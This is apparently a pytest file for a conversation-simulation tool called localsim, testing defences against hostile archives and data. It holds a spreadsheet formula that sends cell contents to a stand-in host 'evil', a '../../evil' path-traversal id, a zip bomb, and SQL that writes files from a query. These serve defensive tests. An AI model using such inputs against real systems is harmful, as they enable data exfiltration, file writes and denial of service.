"""Files of others: nothing in them sends a key, reads or writes a file, fills the memory, or runs in a spreadsheet."""

from __future__ import annotations

import csv
import json
import os
import shutil
import sqlite3
import zipfile
from contextlib import closing
from pathlib import Path
from typing import Any

import duckdb
import pytest

from localsim.__main__ import run as localsim
from localsim.conversation.scenario import LoadedScenario
from localsim.conversation.transcript import Action, Transcript, Turn
from localsim.errors import InvalidInput, LocalsimError
from localsim.reports.audit import Readers, found_in
from localsim.runs import trust
from localsim.runs.plan import Plan
from localsim.runs.runner import resume, start
from localsim.runs.transfer.bundle import MANIFEST, bundle, open_archive
from localsim.runs.transfer.replay import plan_in
from localsim.scenarios.parse import parse_scenario
from localsim.store.database import Store
from tests.conftest import Quiet
from tests.test_bundle import changed

SERVER = "openai:http://127.0.0.1:9/v1?key_env=MY_KEY#x"


@pytest.fixture
def archive(talk: LoadedScenario, store: Store, tmp_path: Path) -> Path:
    """The archive of a small run."""
    run_id = start(Plan((talk,), ("agents",), "scripted"), store, Quiet(), lambda _: None, leaks=False).run_id
    bundle(store, run_id, tmp_path / "run.zip")
    return tmp_path / "run.zip"


@pytest.mark.parametrize("name", [SERVER, "scripted:@/etc/hostname", "/some/weights.gguf", "mix:0.5:scripted:{}"])
@pytest.mark.parametrize("place", ["model", "roles"])
@pytest.mark.parametrize("listed", [False, True])
def test_an_archive_cannot_name_a_model_in_its_plan_alone(
    name: str, place: str, listed: bool, archive: Path, tmp_path: Path
) -> None:
    def change(content: bytes) -> bytes:
        manifest = json.loads(content)
        manifest["plan"][place] = name if place == "model" else {"1": name}
        if listed:
            manifest["models"] = {**manifest["models"], name: {}}
        return json.dumps(manifest).encode()

    with pytest.raises(InvalidInput):
        plan_in(open_archive(changed(archive, MANIFEST, change)), tmp_path, "x.zip")


def interrupted(talk: LoadedScenario, store: Store, model: str) -> str:
    """A run in the database, one of whose episodes is missing, and whose plan names another model than it had."""
    run_id = start(Plan((talk,), ("agents",), "scripted"), store, Quiet(), lambda _: None, leaks=False).run_id
    with duckdb.connect(str(store.path)) as connection:
        connection.execute("DELETE FROM episodes")
        connection.execute("UPDATE runs SET status = 'interrupted', plan_json = replace(plan_json, ?, ?)", [
            '"model": "scripted"', f'"model": {json.dumps(model)}'
        ])  # fmt: skip
    return run_id


def test_a_run_that_was_begun_elsewhere_goes_on_with_named_servers_and_files_only(
    talk: LoadedScenario, tmp_path: Path
) -> None:
    lines = tmp_path / "lines.txt"
    lines.write_text("Ana: hi\nBo: hi\n")
    for model in (SERVER, f"scripted:@{lines}"):
        copy = Store(tmp_path / "copy.duckdb")
        run_id = interrupted(talk, copy, model)
        with pytest.raises(InvalidInput, match="begun on another machine") as error:
            resume(run_id, copy, Quiet(), lambda _: None)
        assert f"-m '{model}'" in str(error.value.hint)
        trust.refuse_foreign(run_id, [model], [model])
        copy.path.unlink()
    trust.remember("own", [SERVER])
    trust.refuse_foreign("own", [SERVER], [])
    for foreign in (("other", [SERVER]), ("own", [SERVER.replace("9/", "8/")])):
        with pytest.raises(InvalidInput):
            trust.refuse_foreign(*foreign, [])


def test_a_small_archive_does_not_fill_the_memory(archive: Path, tmp_path: Path) -> None:
    file = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive) as good, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as bad:
        for name in good.namelist():
            bad.writestr(name, good.read(name))
        bad.writestr("episodes/x.jsonl", b"\0" * 60_000_000)
    with pytest.raises(InvalidInput, match="unpacks to more than"):
        open_archive(file)


DAMAGE = {
    "UPDATE runs SET plan_json = '{'": "plan_json is not JSON",
    "UPDATE runs SET plan_json = '{}'": "plan names no scenarios",
    "UPDATE runs SET models_json = '[]'": "models_json is not JSON",
    "UPDATE scenarios SET document_json = '{\"id\": 3}'": "scenarios without agents",
    "UPDATE scenarios SET answer_json = '[]'": "answer_json is not JSON",
    "UPDATE episodes SET mode = 'gods'": "unknown mode",
    "DELETE FROM scenarios": "without a scenario",
    "ALTER TABLE turns DROP COLUMN text": "turns.text is missing",
}


@pytest.mark.parametrize("change", DAMAGE)
@pytest.mark.usefixtures("run")
def test_rows_that_make_no_sense_are_found_by_the_check_and_explain_an_error(
    change: str, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    with duckdb.connect(str(store.path)) as connection:
        connection.execute(change)
    for command in (["report", "@last"], ["db", "check"]):
        code, told = localsim([*command, "--db", str(store.path)]), capsys.readouterr()
        assert code == 5 and "unexpected" not in told.err
    assert DAMAGE[change] in told.out


@pytest.mark.usefixtures("run")
def test_what_is_no_database_is_one_error(store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store.rows("SELECT 1")
    whole = store.path.read_bytes()
    files = {name: tmp_path / f"{name}.duckdb" for name in ("pipe", "folder", "half", "lite", "list")}
    os.mkfifo(files["pipe"])
    files["folder"].mkdir()
    files["half"].write_bytes(whole[: len(whole) // 2])
    with closing(sqlite3.connect(files["lite"])) as lite:
        lite.execute("CREATE TABLE runs (run_id)")
    with duckdb.connect(str(files["list"])) as connection:
        connection.execute("CREATE TABLE _attached AS SELECT 0 AS position, NULL AS kind, NULL AS path")
    said = (
        "this is no file",
        "this is no file",
        "damaged or incomplete",
        "not a DuckDB database",
        "no list of databases",
    )
    for file, problem in zip(files.values(), said, strict=True):
        code, told = localsim(["report", "--db", str(file)]), capsys.readouterr().err
        assert code == 5 and f"{file}: " in told and problem in told


@pytest.mark.usefixtures("run")
def test_a_foreign_id_of_a_run_is_no_path(store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    with duckdb.connect(str(store.path)) as connection:
        for table in ("runs", "episodes"):
            connection.execute(f"UPDATE {table} SET run_id = '../../evil'")
    for command in (["bundle", "@last"], ["export", "@last", "-f", "jsonl"]):
        assert localsim([*command, "--db", str(store.path)]) == 3
        assert "cannot be the name of a file" in capsys.readouterr().err
    assert localsim(["bundle", "@last", "-o", "mine.zip", "--db", str(store.path)]) == 0


def test_a_spreadsheet_runs_no_cell_of_an_export(run: str, store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    formulas = ['=HYPERLINK("http://evil?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "plain - text"]
    with duckdb.connect(str(store.path)) as connection:
        for number, text in enumerate(formulas):
            connection.execute("UPDATE turns SET text = ? WHERE turn = ?", [text, number])
    assert localsim(["export", run, "-f", "csv", "-o", "cells", "--db", str(store.path)]) == 0
    with Path("cells/turns.csv").open(newline="") as file:
        rows = [row for row in csv.DictReader(file) if int(row["turn"]) < len(formulas)]
    assert {row["text"] for row in rows} == {f"'{text}" for text in formulas[:-1]} | {formulas[-1]}
    capsys.readouterr()
    query = "SELECT text, -turn AS number FROM turns WHERE turn < 2"
    assert localsim(["sql", query, "--format", "csv", "--db", str(store.path)]) == 0
    told = capsys.readouterr().out
    assert """"'=HYPERLINK(""http://evil?""&A1)",0""" in told and "\n+1,-1" in told, "a number is no formula"
    assert all(row["position"].replace(".", "").isdigit() for row in rows), "numbers stay numbers"


@pytest.mark.parametrize(
    "query",
    ["COPY (SELECT 1) TO '{}'", "ATTACH '{}' AS x", "EXPLAIN ANALYZE COPY (SELECT 1) TO '{}'", "EXPORT DATABASE '{}'",
     "PREPARE p AS COPY (SELECT 1) TO '{}'"],
)  # fmt: skip
@pytest.mark.usefixtures("run")
def test_a_typed_query_writes_no_file_where_queries_spill(query: str, store: Store) -> None:
    spilled = Path(f"{store.path}.tmp")
    spilled.mkdir()
    with pytest.raises(InvalidInput, match="a query reads"):
        store.sql(query.format(spilled / "pwn.csv"))
    assert list(spilled.iterdir()) == [] and store.sql("SELECT 1")[1] == [(1,)]


# ---- checks before work ---------------------------------------------------------------------------------------------


def test_what_cannot_be_written_or_opened_is_refused_before_any_work(
    run: str, store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").write_text("")
    there = str(tmp_path / "file" / "x")
    db = ["--db", str(store.path)]

    def worked(*_: Any, **__: Any) -> Any:
        raise AssertionError("the work began")

    for place in ("localsim.reports.report.of", "localsim.evaluators.leaks.search"):
        monkeypatch.setattr(place, worked)
    for command in (
        ["report", run, "-o", f"{there}.html"],
        ["export", run, "-f", "csv", "-o", there],
        ["export", run, "--partitioned", there],
        ["bundle", run, "-o", there],
        ["import", "talks", str(tmp_path / "file"), "--scenarios", there],
        ["scenarios", "import", "sotopia", str(tmp_path / "file"), "-o", there],
        ["study", "--dir", there],
        ["models", "export", there],
    ):
        assert localsim([*command, *(db if command[0] not in ("study", "models") else [])]) == 3, command
        assert "cannot be written" in capsys.readouterr().err
    assert localsim(["score", run, "--judge", "no-such-model", *db]) == 4
    usage = shutil.disk_usage(tmp_path)
    monkeypatch.setattr(shutil, "disk_usage", lambda _: usage._replace(free=1000))
    for command, code in ((["score", run], 5), (["report", run, "-o", "r.html"], 3)):
        assert localsim([*command, *db]) == code
        assert "disk is full" in capsys.readouterr().err
    monkeypatch.undo()


def test_a_file_has_its_name_once_it_is_whole(run: str, store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    before = Path("old.jsonl")
    before.write_text("old")
    monkeypatch.setattr("localsim.store.outside.export.load_episode", lambda *_: 1 / 0)
    assert localsim(["export", run, "-f", "jsonl", "-o", "old.jsonl", "--db", str(store.path)]) == 1
    assert before.read_text() == "old" and not Path("old.jsonl.part").exists()


# ---- secret values --------------------------------------------------------------------------------------------------

BIDS = """
version: 1
id: bids
title: x
info: {what: x}
setting: Ida and Xena divide a cake.
agents:
  - {name: Ida, goal: Win.}
  - {name: Xena, goal: Win.}
moves:
  - {name: give, tell: To give, values: [{number: [0, 100], step: 0.01}], text: "no", readers: self}
  - {name: vote, tell: To vote, values: [{agents: one}], text: "no", readers: self}
phases: [{name: all, order: together, actions: [give, vote, speak], rounds: 3}]
"""


@pytest.mark.parametrize(
    ("plant", "found"),
    [
        *((text, True) for text in ("Ida gave 45.00", "Ida give 45.00.", "Ida [GIVE 45.00]", "45.00", "Ida: 45.00")),
        *((text, True) for text in ("They say that Ida voted for Xena!", "Ida's vote was Xena")),
        *(
            (text, False)
            for text in (
                "Ida gave 46.00",
                "Ida and Xena divide a cake.",
                "Xena has 45.00",
                "Ida saw Xena.",
                "Xena [vote Ida]",
            )
        ),
    ],
)
def test_the_values_of_secret_moves_are_found_in_other_words(plant: str, found: bool) -> None:
    loaded = parse_scenario(BIDS, "bids.yaml")
    acts = [("Ida", Action("give", "", ("45.00",))), ("Xena", Action("speak", "Hm."))]
    acts += [("Ida", Action("vote", "", ("Xena",))), ("Xena", Action("speak", "So."))]
    turns = (
        Turn(number, name, action, beat=number // 2 * 2, phase="all") for number, (name, action) in enumerate(acts)
    )
    talk = Readers(loaded.scenario, Transcript(tuple(turns)))
    prompt = f"Ida and Xena divide a cake.\n\nXena: Hm.\n\n{plant}"
    assert bool(list(found_in(prompt, loaded, "agents", "Xena", talk, 4))) == found


def test_a_damaged_plan_of_an_archive_is_an_error_with_a_reason(archive: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(archive) as file:
        manifest = json.loads(file.read(MANIFEST))
    inner = [("plan", key) for key in manifest["plan"]] + [("models", key) for key in manifest["models"]]
    for place in [(key,) for key in manifest] + inner:
        for value in (None, -1, "x", [], {}, [1], {"x": []}):
            broken = json.loads(json.dumps(manifest))
            part = broken if len(place) == 1 else broken[place[0]]
            part[place[-1]] = value
            bad = changed(archive, MANIFEST, lambda _, new=broken: json.dumps(new).encode())
            folder = tmp_path / "lines"
            folder.mkdir(exist_ok=True)
            try:
                plan_in(open_archive(bad), folder, "bad.zip").specs()
            except LocalsimError as error:
                assert error.message, (place, value)
